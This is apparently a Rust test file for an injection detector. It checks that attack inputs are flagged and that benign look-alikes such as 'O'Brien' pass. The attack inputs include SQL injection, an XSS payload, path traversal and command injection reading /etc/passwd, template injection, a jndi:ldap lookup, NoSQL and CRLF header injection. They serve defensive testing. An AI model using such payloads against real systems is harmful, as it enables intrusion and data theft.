//! Attacks and the honest texts next to them.

use proptest::prelude::{ProptestConfig, any, proptest};

use super::{Confidence, Detector, examine};

fn found(text: &str) -> Vec<(Detector, Confidence)> {
    examine(text.as_bytes()).into_iter().map(|catch| (catch.probe.detector, catch.probe.confidence)).collect()
}

#[test]
fn a_value_that_breaks_out_is_found() {
    for (text, detector) in [
        ("x' or 3=3 --", Detector::Sql),
        ("id=7%27%20union%20select%20a,b%20from%20t", Detector::Sql),
        (r#"{"q": "<svg/onload=alert(2)>"}"#, Detector::Script),
        ("..%252f..%252f..%252fetc/passwd", Detector::Path),
        ("host=10.1.1.1; cat /etc/passwd", Detector::Command),
        ("{{7*'7'}}", Detector::Template),
        ("X-Api-Version: ${jndi:ldap://a.example/b}", Detector::Code),
        ("user[$ne]=x", Detector::Query),
        ("/%0d%0aSet-Cookie: a=b", Detector::Server),
    ] {
        assert!(found(text).iter().any(|(own, _)| *own == detector), "{text}: {:?}", found(text));
    }
}

#[test]
fn an_honest_value_is_not() {
    for text in [
        "O'Brien",
        "5 < 6 and 7 > 3",
        "the SELECT committee or 1 other",
        "Tom & Jerry's",
        "rock 'n' roll & blues",
        "SELECT name FROM users WHERE a = 'x' OR b = 'y'",
        "ls -la | grep txt",
        "What does ' OR 1=1 -- do?",
        "How do I stop <script>alert(1)</script> in comments?",
        "import x from '../../utils/x.js'",
        "https://shop.example/a?size=10&sort=price",
        "<script src=\"app.js\"></script>",
        "Classify these as 'useful' or 'not useful'.",
        "test \"$A\" = \"/bin/zsh\"",
        "<button onclick=\"save()\">Save</button>",
    ] {
        assert_eq!(found(text), Vec::new(), "{text}");
    }
}

#[test]
fn a_field_is_held_to_more_than_a_sentence() {
    for text in ["q=version()", "/a?q=ls%20-l", "X-Note: @import 'a'", "GET /?a=1%20rlike%201 HTTP/1.1"] {
        assert!(!found(text).is_empty(), "{text}");
    }
    for text in ["q=sleep+well", "/a?q=cat%20food", "{\"q\": \"O'Neil & Sons; est. 1950\"}", "sql=select a, b from t"] {
        assert_eq!(found(text), Vec::new(), "{text}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2_000))]

    #[test]
    fn no_text_is_too_odd(text in "[ -~\\n\u{e9}\u{2019}]{0,80}", bytes in any::<Vec<u8>>()) {
        examine(text.as_bytes());
        examine(&bytes);
        for piece in ["'", "<a ", "%25", "{{", "$(", "/*!", "\\u{", "&#x", "{\"a\":\""] {
            let both = format!("{piece}{text}{piece}");
            let catches = examine(both.as_bytes());
            assert!(catches.iter().all(|catch| both.get(catch.start..catch.end).is_some()));
        }
    }
}
